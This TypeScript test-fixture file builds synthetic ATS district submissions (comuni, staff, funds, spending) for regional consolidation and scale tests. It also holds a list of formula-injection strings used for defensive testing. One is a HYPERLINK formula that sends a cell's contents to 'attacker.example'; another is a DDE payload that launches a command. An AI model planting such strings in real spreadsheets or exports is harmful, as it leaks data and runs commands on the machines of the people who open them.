import { loadComuni } from '../../functions/lib/reference-data.ts';
import { unsubmittedAts } from '../../shared/consolidation/build.ts';
import type { ConsolidatedAts, ConsolidatedResponse, FindingBody } from '../../shared/contract/api.ts';
import { syntheticItaly } from '../../shared/demo/ats.ts';
import { generateSubmission } from '../../shared/demo/generate.ts';
import { LEPS_ATS } from '../../shared/template/index.ts';
import { SHEET_IDS, type SheetId } from '../../shared/template/types.ts';
import {
  anagrafica,
  comune,
  comuni,
  fund,
  funds,
  indicator,
  indicators,
  PERIOD,
  spending,
  spendingRows,
  staff,
  staffRows,
} from '../support/builders.ts';

/**
 * Consolidated responses for the regional tests, built from the fixture builders of the synthetic Belluno ATS: the
 * same rows under other ATS codes, so the figures are known (9.5 FTE, 42,818 inhabitants, 97,776.62 € each).
 */

type Row = Record<string, string | number | boolean | null>;
export type Rows = Record<SheetId, Row[]>;

export const REGION = '05';

export const atsCode = (index: number): string => `ATS-05-${String(index + 1).padStart(3, '0')}`;

const withAts = (ats: string, rows: readonly Row[]): Row[] => rows.map((row) => ({ ...row, COD_ATS: ats }));

/** The valid Belluno submission's rows under another ATS code. */
export function belluno(ats: string): Rows {
  return {
    T1: withAts(ats, [anagrafica({ DENOMINAZIONE_ATS: `Ambito sintetico ${ats}` })]),
    T2: withAts(ats, comuni()),
    T3: withAts(ats, staffRows()),
    T4: withAts(ats, funds()),
    T5: withAts(ats, spendingRows()),
    T6: withAts(ats, indicators()),
  };
}

/**
 * An ATS of realistic size for scale tests: 13 comuni, 40 staff rows, 12 fund rows, 45 spending rows, 30 indicators
 * (~2,500 cells), in the shape of the builders' rows.
 */
export function realisticAts(ats: string, index: number): Rows {
  const base = 100 + (index % 800);
  return {
    T1: withAts(ats, [anagrafica({ DENOMINAZIONE_ATS: `Ambito sintetico ${ats}` })]),
    T2: Array.from({ length: 13 }, (_, n) =>
      comune(String(base * 100 + n).padStart(6, '0'), `Comune ${n}`, '00100060250', 3000 + n * 17, {
        COD_ATS: ats,
        FLAG_CAPOFILA: n === 0 ? 'S' : 'N',
      }),
    ),
    T3: Array.from({ length: 40 }, (_, n) =>
      staff(`AS-${String(n + 1).padStart(3, '0')}`, {
        COD_ATS: ats,
        ORE_SETT: n % 5 === 0 ? 18 : 36,
        COSTO_ANNUO: 36000 + n,
      }),
    ),
    T4: Array.from({ length: 12 }, (_, n) =>
      fund({
        COD_ATS: ats,
        ANNUALITA: 2020 + (n % 6),
        IMPORTO_ASSEGNATO: 400000 + n * 1000,
        IMPORTO_LIQUIDATO: 200000 + n,
      }),
    ),
    T5: Array.from({ length: 45 }, (_, n) =>
      spending({
        COD_ATS: ats,
        IMPEGNATO: 10000 + n,
        LIQUIDATO: 5000 + n,
        NOTE: `Nota di spesa ${n} dell'Ambito ${ats}`,
      }),
    ),
    T6: Array.from({ length: 30 }, (_, n) => indicator('LEPS_PIS', 'PIS_PERSONE', n + 1, { COD_ATS: ats })),
  };
}

export const sha = (seed: number): string => seed.toString(16).padStart(64, '0');

export interface AtsSpec {
  readonly ats: string;
  readonly rows?: Rows;
  readonly status?: ConsolidatedAts['status'];
  readonly version?: number;
  readonly findings?: FindingBody[];
  readonly summary?: ConsolidatedAts['summary'];
}

/** A consolidated response as the API sends it: submitted ATS with receipts, missing ones without. */
export function consolidated(
  submitted: readonly AtsSpec[],
  missing: readonly string[] = [],
  regionFindings: FindingBody[] = [],
): ConsolidatedResponse {
  const rows: Record<string, Row[]> = Object.fromEntries(SHEET_IDS.map((sheet) => [sheet, [] as Row[]]));
  const ats: ConsolidatedAts[] = submitted.map((spec, index) => {
    const sheets = spec.rows ?? belluno(spec.ats);
    for (const sheet of SHEET_IDS) rows[sheet]?.push(...sheets[sheet]);
    const findings = spec.findings ?? [];
    const version = spec.version ?? 1;
    const status = spec.status ?? 'SUBMITTED';
    return {
      ats: spec.ats,
      name: `Ambito sintetico ${spec.ats}`,
      registered: true,
      submitted: true,
      status,
      version,
      receipt: {
        ats: spec.ats,
        period: PERIOD,
        template: LEPS_ATS.id,
        templateVersion: LEPS_ATS.version,
        version,
        sha256: sha(index + 1),
        receivedAt: '2026-01-20T09:30:00.000Z',
        status: status ?? 'SUBMITTED',
        findings,
      },
      errors: findings.filter((finding) => finding.severity === 'error').length,
      warnings: findings.filter((finding) => finding.severity === 'warning').length,
      summary: spec.summary ?? null,
    };
  });
  for (const code of missing) ats.push(unsubmittedAts(code, `Ambito sintetico ${code}`));
  return { region: REGION, period: PERIOD, ats, missing: [...missing], rows, findings: regionFindings };
}

/** A region of `count` ATS of realistic size, every one submitted. */
export function realisticRegion(count: number): ConsolidatedResponse {
  return consolidated(
    Array.from({ length: count }, (_, index) => ({
      ats: atsCode(index),
      rows: realisticAts(atsCode(index), index),
      summary: { population: 42818, fteAsTi: 9.5 + (index % 7), contribution: 97776.62, rows: 141 },
    })),
  );
}

/** Strings an attacker (or an unlucky accountant) may put in any text cell. */
export const HOSTILE_STRINGS = [
  '=HYPERLINK("http://attacker.example/?x="&A1,"Clicca")',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  "'già con apostrofo",
  "=cmd|' /C calc'!A0",
  '00123',
  '1.234,56',
] as const;

/**
 * `count` ATS of the synthetic Italy of shared/demo, each with the valid annual submission the demo generator makes
 * (~130 rows per ATS, sized from the ATS's real comuni): the data the scale test and the benchmark draw.
 */
export function demoRegion(count: number): ConsolidatedResponse {
  const comuni = loadComuni();
  const registered = syntheticItaly(comuni).slice(0, count);
  if (registered.length < count) throw new Error(`the synthetic Italy has only ${registered.length} ATS`);
  return consolidated(
    registered.map((ats, index) => {
      const submission = generateSubmission({
        ats,
        regionCode: ats.ats.slice(4, 6),
        comuni,
        period: PERIOD,
        seed: index + 1,
      });
      const rows = Object.fromEntries(SHEET_IDS.map((sheet) => [sheet, [...(submission.sheets[sheet] ?? [])]])) as Rows;
      return { ats: ats.ats, rows };
    }),
  );
}
